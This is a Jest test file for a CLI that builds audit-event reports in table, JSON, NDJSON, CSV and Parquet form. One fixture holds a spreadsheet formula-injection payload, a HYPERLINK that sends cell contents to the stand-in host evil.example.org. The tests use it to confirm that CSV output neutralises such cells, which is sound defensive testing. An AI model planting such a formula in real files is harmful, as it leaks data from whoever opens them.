import { mkdir, readdir, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { parquetReadObjects } from 'hyparquet';
import { compressors } from 'hyparquet-compressors';
import { undefused } from '../../lib/report/csv.ts';
import type { EventRecord } from '../../lib/sample-foundation/records.ts';
import {
  ARCHIVER_CLIENT,
  type SampleFoundation,
  startSampleFoundation,
} from '../../lib/sample-foundation/sample-foundation.ts';
import { parseCsv } from '../report/support/parse-csv.ts';
import { askCli, makeCliDirectory, writeCliConfiguration } from '../support/cli-archive.ts';
import {
  anEventRecord,
  anOrganizationRecord,
  aSpaceRecord,
  micros,
  theRecords,
} from '../support/sample-foundation/records.ts';

const NOW = '2026-03-12T06:00:00Z';
const FORMULA = '=HYPERLINK("http://evil.example.org/?x="&A1,"click")';
const PARTIAL =
  '1 of 4 days is stored only in part: 2026-03-09; 1 of 4 days is not closed yet: 2026-03-12';

const records: EventRecord[] = [
  anEventRecord({
    type: 'audit.user.space_developer_add',
    created_at: micros('2026-03-10T08:00:00Z'),
    actor_name: 'ann@example.org',
    actee: 'user-2',
    actee_type: 'user',
    actee_name: FORMULA,
  }),
  anEventRecord({
    type: 'audit.user.organization_manager_remove',
    created_at: micros('2026-03-11T09:00:00Z'),
    actor_name: '\'quoted\', "twice"',
    actee: 'user-3',
    actee_type: 'user',
    actee_name: 'zoë@example.org',
    space_guid: '',
  }),
  anEventRecord({
    type: 'audit.user.space_developer_add',
    created_at: micros('2026-03-11T10:00:00Z'),
    actee: 'user-4',
    actee_type: 'user',
    actee_name: 'elsewhere@example.org',
    space_guid: 'space-9',
    organization_guid: 'organization-9',
  }),
  anEventRecord({
    type: 'audit.app.process.crash',
    created_at: micros('2026-03-11T11:00:00Z'),
    actor: 'process-1',
    actor_type: 'process',
    actor_name: 'web',
    actee_name: 'checkout',
    metadata: '{"index":0,"reason":"CRASHED","exit_status":137,"exit_description":"out of memory"}',
  }),
  anEventRecord({
    type: 'audit.app.update',
    created_at: micros('2026-03-10T11:00:00Z'),
    actee_name: 'checkout',
    metadata: '{"request":{"instances":2,"memory":512}}',
  }),
];

let directory: string;
let sample: SampleFoundation;
beforeAll(async () => {
  directory = await makeCliDirectory();
  sample = await startSampleFoundation({
    now: new Date(NOW),
    records: theRecords({
      clients: [ARCHIVER_CLIENT],
      organizations: [
        anOrganizationRecord('organization-1', { name: 'shop' }),
        anOrganizationRecord('organization-9', { name: 'other' }),
      ],
      spaces: [
        aSpaceRecord('space-1', 'organization-1', { name: 'payments' }),
        aSpaceRecord('space-9', 'organization-9', { name: 'lab' }),
      ],
      events: records,
    }),
  });
  await writeCliConfiguration(directory, sample.apiUrl);
  await ask('archive');
});
afterAll(async () => {
  await sample.close();
  await rm(directory, { recursive: true, force: true });
});

const ask = (...args: string[]) => askCli(directory, NOW, args);

const report = (...args: string[]) => ask('report', ...args);

const USER_ACCESS_TITLES = [
  'Timestamp',
  'User Performing Action',
  'Action Type',
  'User',
  'Role',
  'Space',
  'Organization',
];

describe('report', () => {
  it('lists every report with what it shows', async () => {
    const { stdout, exitCode } = await report();

    expect(exitCode).toBe(0);
    expect(stdout).toMatch(/^report +shows\n/);
    expect(stdout.trim().split('\n')).toHaveLength(12);
    expect(stdout).toMatch(/\nuser-access-changes +who gave or took which role/);
  });

  it('lists them for machines', async () => {
    const { stdout } = await report('--json');

    expect(JSON.parse(stdout).reports[0]).toEqual({
      name: 'user-access-changes',
      title: 'User access changes',
      description: expect.any(String),
      columns: USER_ACCESS_TITLES,
    });
  });

  it('does not list them as JSON and as a table', async () => {
    const { exitCode, stdout, stderr } = await report('--json', '--output', 'table');

    expect([exitCode, stdout]).toEqual([2, '']);
    expect(stderr).toMatch(/^--json and --output table exclude each other/);
  });

  it('asks what was meant by an unknown name', async () => {
    const near = await report('user_access_change');
    const far = await report('everything-there-is');

    expect(near.exitCode).toBe(2);
    expect(near.stderr).toBe(
      'report user_access_change: there is no such report; did you mean user-access-changes?\n',
    );
    expect(far.stderr).toMatch(/there are user-access-changes, route-changes, .*admin-changes\n$/);
  });

  it('prints a table, oldest first, below how complete it is', async () => {
    const { stdout, stderr } = await report('user-access-changes', '--organization', 'SHOP');

    expect(stderr).toBe('');
    const [sentence, heading, ...lines] = stdout.trimEnd().split('\n');
    expect(sentence).toBe(PARTIAL);
    expect(heading?.split(/ {3,}/)).toEqual(USER_ACCESS_TITLES);
    expect(lines.map((line) => line.split(/ {3,}/).slice(0, 5))).toEqual([
      [
        '2026-03-10T08:00:00Z',
        'ann@example.org',
        'audit.user.space_developer_add',
        FORMULA,
        'space developer',
      ],
      [
        '2026-03-11T09:00:00Z',
        `'quoted', "twice"`,
        'audit.user.organization_manager_remove',
        'zoë@example.org',
        'organization manager',
      ],
    ]);
  });

  it('gives CSV that a spreadsheet reads as text, and that can be read back', async () => {
    const { stdout, stderr, exitCode } = await report(
      ...['user-access-changes', '--organization', 'shop', '--last', '90d', '--output', 'csv'],
    );

    expect(exitCode).toBe(0);
    expect(stderr).toMatch(/days are from before the archive began/);
    const [header, ...lines] = parseCsv(stdout);
    expect(header).toEqual(USER_ACCESS_TITLES);
    expect(lines[0]?.[3]).toBe(`'${FORMULA}`);
    expect(lines.flat().filter((cell) => /^[=+\-@\t\r]/.test(cell ?? ''))).toEqual([]);
    expect(lines.map((line) => line.map((cell) => cell && undefused(cell)))).toEqual([
      [
        '2026-03-10T08:00:00Z',
        'ann@example.org',
        'audit.user.space_developer_add',
        FORMULA,
        'space developer',
        'payments',
        'shop',
      ],
      [
        '2026-03-11T09:00:00Z',
        `'quoted', "twice"`,
        'audit.user.organization_manager_remove',
        'zoë@example.org',
        'organization manager',
        null,
        'shop',
      ],
    ]);
  });

  it('gives JSON with the coverage in it', async () => {
    const { stdout, stderr } = await report('crashes', '--json');

    expect(stderr).toBe('');
    expect(JSON.parse(stdout)).toMatchObject({
      report: 'crashes',
      columns: expect.arrayContaining(['Timestamp', 'App', 'Exit Status']),
      rows: [
        {
          Timestamp: '2026-03-11T11:00:00Z',
          App: 'checkout',
          Process: 'web',
          'Exit Status': '137',
          'Crash Count': null,
        },
      ],
      coverage: { complete: false, message: PARTIAL },
    });
  });

  it('gives NDJSON, a line of the report a line', async () => {
    const { stdout, stderr } = await report('user-access-changes', '--output', 'ndjson');

    expect(stderr).toBe(`${PARTIAL}\n`);
    expect(
      stdout
        .trimEnd()
        .split('\n')
        .map((line) => JSON.parse(line).User),
    ).toEqual([FORMULA, 'zoë@example.org', 'elsewhere@example.org']);
  });

  it('shows the history of an app as cf events does, in the asked time zone', async () => {
    const { stdout } = await report(
      ...['app-history', '--target', 'checkout', '--time-zone', 'Europe/Berlin', '--json'],
    );

    expect(JSON.parse(stdout).rows).toEqual([
      {
        time: '2026-03-11T12:00:00.00+0100',
        event: 'audit.app.process.crash',
        actor: 'web',
        description: 'index: 0, reason: CRASHED, exit_description: out of memory, exit_status: 137',
        app: 'checkout',
        space: 'payments',
      },
      {
        time: '2026-03-10T12:00:00.00+0100',
        event: 'audit.app.update',
        actor: 'someone@example.org',
        description: 'instances: 2, memory: 512',
        app: 'checkout',
        space: 'payments',
      },
    ]);
  });

  it.each<[flags: string[], guids: number]>([
    [['--from', '2026-03-11'], 3],
    [['--to', '2026-03-11'], 2],
    [['--yesterday'], 3],
    [['--actor', 'ann@*'], 1],
    [['--target', 'user-4'], 1],
    [['--space', 'lab'], 1],
    [['--organization', 'nowhere'], 0],
  ])('narrows all-events with %j', async (flags, events) => {
    const { stdout } = await report('all-events', '--json', ...flags);

    expect(JSON.parse(stdout).rows).toHaveLength(events);
  });

  it('says that there is nothing, and how sure that is', async () => {
    const { stdout } = await report('ssh-access');

    expect(stdout).toBe(`${PARTIAL}\nNo events found.\n`);
  });
});

describe('report --file', () => {
  it.each(['csv', 'json', 'ndjson'])('writes the same %s as to the terminal', async (format) => {
    const file = join(directory, `access.${format}`);

    const { exitCode, stdout, stderr } = await report('user-access-changes', '--file', file);

    expect(exitCode).toBe(0);
    expect(stdout).toBe('');
    expect(stderr).toMatch(/^1 of 4 days .*\n.*: 3 rows, [\d.]+ k?B\n$/);
    const said = await report('user-access-changes', '--output', format);
    expect(await readFile(file, 'utf8')).toBe(said.stdout);
  });

  it('writes Parquet with the columns of the report, in its order', async () => {
    const file = join(directory, 'access.parquet');

    const { exitCode } = await report('user-access-changes', '--file', file);

    expect(exitCode).toBe(0);
    const { buffer, byteOffset, length } = await readFile(file);
    const rows = await parquetReadObjects({
      file: buffer.slice(byteOffset, byteOffset + length) as ArrayBuffer,
      compressors,
    });
    expect(Object.keys(rows[0] ?? {})).toEqual(USER_ACCESS_TITLES);
    expect(rows.map((row) => row.User)).toEqual([
      FORMULA,
      'zoë@example.org',
      'elsewhere@example.org',
    ]);
  });

  it('leaves what was there, and nothing beside it, when a part cannot be read', async () => {
    const out = join(directory, 'out');
    await mkdir(out);
    await writeFile(join(out, 'all.csv'), 'from before');
    const part = join(
      directory,
      'archive/events/v1/foundation=eu-1/dt=2026-03-10/part-0000.parquet',
    );
    const bytes = await readFile(part);
    await writeFile(part, bytes.subarray(0, 100));

    const { exitCode, stderr } = await report('all-events', '--file', join(out, 'all.csv'));
    await writeFile(part, bytes);

    expect(exitCode).toBe(1);
    expect(stderr).toMatch(/the archive's parts cannot be searched/);
    expect(await readdir(out)).toEqual(['all.csv']);
    expect(await readFile(join(out, 'all.csv'), 'utf8')).toBe('from before');
  });

  it.each<[args: string[], line: RegExp]>([
    [['--file', 'x.txt'], /--file x\.txt: write --output json, ndjson, csv or parquet as well/],
    [['--output', 'parquet'], /--output parquet: write --file FILE as well/],
    [['--output', 'csv', '--file', tmpdir()], /that is no file/],
    [['--file', '/nowhere/at/all.csv'], /--file \/nowhere\/at\/all\.csv: there is no such folder/],
    [
      ['--json', '--output', 'csv'],
      /^--json and --output csv exclude each other: write one of them\n$/,
    ],
    [['--output', 'xml'], /Allowed choices are table, json, ndjson, csv, parquet/],
    [['--last', 'week'], /--last week: write a whole number and m, h, d or w/],
    [['--type', 'audit.app.start'], /unknown option '--type'/],
  ])('refuses %j', async (args, line) => {
    const { exitCode, stderr } = await report('all-events', ...args);

    expect(exitCode).toBe(2);
    expect(stderr).toMatch(line);
  });
});
